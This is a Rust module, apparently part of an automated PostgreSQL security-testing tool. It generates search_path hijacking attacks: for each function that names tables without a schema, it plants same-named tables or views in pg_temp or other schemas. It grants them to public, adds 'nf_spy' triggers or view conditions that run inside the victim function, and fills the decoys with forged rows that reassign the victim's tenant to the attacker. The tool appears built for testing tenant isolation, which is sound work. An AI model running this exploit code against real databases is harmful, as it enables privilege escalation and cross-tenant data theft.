//! A table or view of the caller's in place of one that a function names without its schema: filled so that a check lets
//! the caller in, and with eyes of its own.

use super::{
    Place, places, played,
    spy::{Returns, spy},
    unqualified,
};
use crate::attack::{
    Hunt, functions,
    links::Link,
    seed::{Row, Seeder, insert},
};
use crate::{
    catalog::{Function, Relation},
    session::{SessionError, identifier, literal},
};

/// Relations that one function is deceived about.
const RELATIONS: usize = 6;

/// Rows that a deceiving table is filled with.
const ROWS: usize = 6;

/// Puts something in place of every relation that the function names alone.
pub(super) async fn run(
    hunt: &mut Hunt,
    function: &Function,
    occasions: &[String],
) -> Result<bool, SessionError> {
    if given(hunt, function).await? {
        return Ok(true);
    }
    let places = places(hunt, function);
    let named: Vec<Relation> = hunt
        .stage
        .targets()
        .into_iter()
        .filter(|relation| unqualified(&function.source, &relation.name))
        .take(RELATIONS)
        .collect();
    for place in places {
        for relation in named.iter().filter(|relation| relation.schema != place.schema) {
            for rows in fillings(hunt, relation).await? {
                if played(hunt, function, &table(hunt, &place, relation, &rows), occasions).await? {
                    return Ok(true);
                }
            }
            if played(hunt, function, &view(hunt, &place, relation), occasions).await? {
                return Ok(true);
            }
        }
    }
    Ok(false)
}

/// Gives a function that takes the name of a relation one of the attacker's, which looks around when it is read.
async fn given(hunt: &mut Hunt, function: &Function) -> Result<bool, SessionError> {
    let catalog = &hunt.stage.catalog;
    let takes = |(index, kind): (usize, &u32)| {
        let name = function.argument_names.get(index).map_or("", String::as_str).to_ascii_lowercase();
        catalog.base_type(*kind).is_some_and(|info| {
            info.name == "regclass"
                || info.category == "S" && ["tab", "rel", "view"].iter().any(|word| name.contains(word))
        })
    };
    let takes: Vec<bool> = function.argument_types.iter().enumerate().map(takes).collect();
    if !takes.contains(&true) || !functions::callable(&hunt.stage).iter().any(|one| one.oid == function.oid) {
        return Ok(false);
    }
    let column = hunt.stage.subject.tenant_column.clone().unwrap_or_else(|| "tenant_id".to_owned());
    let kind = catalog
        .relations
        .iter()
        .find_map(|relation| Some(relation.column_named(&column)?.type_name.clone()))
        .unwrap_or_else(|| "text".to_owned());
    let view = format!(
        "create temporary view nf_own as select {}::{kind} as {}, pg_temp.nf_spy() as nf_spied",
        literal(&hunt.stage.attacker.id),
        identifier(&column)
    );
    let script =
        [spy(hunt, "pg_temp", Returns::Truth), view, "grant all on pg_temp.nf_own to public".to_owned()];
    let calls: Vec<String> = functions::arguments(hunt, function)
        .into_iter()
        .take(1)
        .flat_map(|(mut arguments, _)| {
            arguments.resize(takes.len(), "null".to_owned());
            ["'pg_temp.nf_own'", "'nf_own'"].map(|name| {
                let named = arguments.iter().zip(&takes);
                let named = named.map(|(old, takes)| if *takes { name.to_owned() } else { old.clone() });
                functions::statement(function, &named.collect::<Vec<_>>())
            })
        })
        .collect();
    for call in calls {
        if played(hunt, function, &script, std::slice::from_ref(&call)).await? {
            return Ok(true);
        }
    }
    Ok(false)
}

/// Makes a table of the same name and columns, with a trigger that looks around.
fn table(hunt: &Hunt, place: &Place, relation: &Relation, rows: &[Row]) -> Vec<String> {
    let mut deceiving = relation.clone();
    deceiving.schema.clone_from(&place.schema);
    for column in &mut deceiving.columns {
        column.identity.clear();
    }
    let name = deceiving.quoted();
    let columns: Vec<String> = relation
        .columns
        .iter()
        .map(|column| format!("{} {}", identifier(&column.name), column.type_name))
        .collect();
    let mut script = place.made.clone();
    script.push(format!("create table {name} ({})", columns.join(", ")));
    script.push(format!("grant all on {name} to public"));
    script.extend(rows.iter().map(|row| insert(&deceiving, row)));
    let schema = identifier(&place.schema);
    script.push(spy(hunt, &schema, Returns::Trigger));
    script.push(format!(
        "create trigger nf_spy before insert or update or delete on {name} for each statement execute function {schema}.nf_spy()"
    ));
    script
}

/// Makes a view of the same name and columns that looks around when it is read.
fn view(hunt: &Hunt, place: &Place, relation: &Relation) -> Vec<String> {
    let schema = identifier(&place.schema);
    let columns: Vec<String> = relation
        .columns
        .iter()
        .map(|column| format!("null::{} as {}", column.type_name, identifier(&column.name)))
        .collect();
    let name = format!("{schema}.{}", identifier(&relation.name));
    let mut script = place.made.clone();
    script.push(spy(hunt, &schema, Returns::Truth));
    script.push(format!("create view {name} as select {} where {schema}.nf_spy()", columns.join(", ")));
    script.push(format!("grant all on {name} to public"));
    script
}

/// Returns what to fill a deceiving table with: a row that makes the attacker the victim's, the victim's row that says it is
/// the attacker's, and all the victim's rows of which each says both.
async fn fillings(hunt: &mut Hunt, relation: &Relation) -> Result<Vec<Vec<Row>>, SessionError> {
    let mut fillings = Vec::new();
    let (attacker, victim) = (hunt.stage.attacker.clone(), hunt.stage.victim.clone());
    if relation.is_table() {
        let mut oneself = victim.clone();
        oneself.principal.clone_from(&attacker.principal);
        oneself.marker = format!("zqh{}", oneself.marker.get(3..).unwrap_or_default());
        oneself.block = 4;
        let seeds = std::mem::take(&mut hunt.seeds);
        let mut seeder = Seeder::resume(&mut hunt.stage, seeds);
        let forged = seeder.craft(relation, &oneself, &Row::new()).await?;
        hunt.seeds = seeder.seeds;
        fillings.push(vec![forged]);
    }
    let mut theirs = hunt.seeds.rows_of(relation.oid, &victim).to_vec();
    if theirs.is_empty() {
        theirs.extend(hunt.row_behind(relation, &victim));
    }
    theirs.truncate(ROWS);
    let persons: Vec<String> = hunt
        .stage
        .people
        .iter()
        .filter(|(oid, _)| *oid == relation.oid)
        .map(|(_, column)| column.clone())
        .collect();
    let tenant = match hunt.stage.links.get(&relation.oid) {
        Some(Link::Tenant(column)) => Some(column.clone()),
        _ => hunt.stage.subject.tenant_column.clone(),
    };
    let (mut mine, mut both) = (Vec::new(), Vec::new());
    for row in theirs {
        let mut of_person = row;
        of_person.retain(|name, _| relation.column_named(name).is_some());
        for column in &persons {
            if let Some(value) = of_person.get_mut(column) {
                value.clone_from(&attacker.principal);
            }
        }
        let mut of_tenant = of_person.clone();
        if let Some(value) = tenant.as_ref().and_then(|column| of_tenant.get_mut(column)) {
            *value = Some(attacker.id.clone());
        }
        mine.push(of_tenant.clone());
        both.extend([of_tenant, of_person]);
    }
    if let Some(first) = mine.first() {
        fillings.push(vec![first.clone()]);
        fillings.push(both);
    }
    if fillings.is_empty() {
        // What stands for the context itself says another tenant.
        let name = hunt.stage.subject.tenant_column.as_deref().unwrap_or_default();
        let column = relation.column_named(name);
        let row = column.map(|column| Row::from([(column.name.clone(), Some(victim.id.clone()))]));
        fillings.push(row.into_iter().collect());
    }
    Ok(fillings)
}
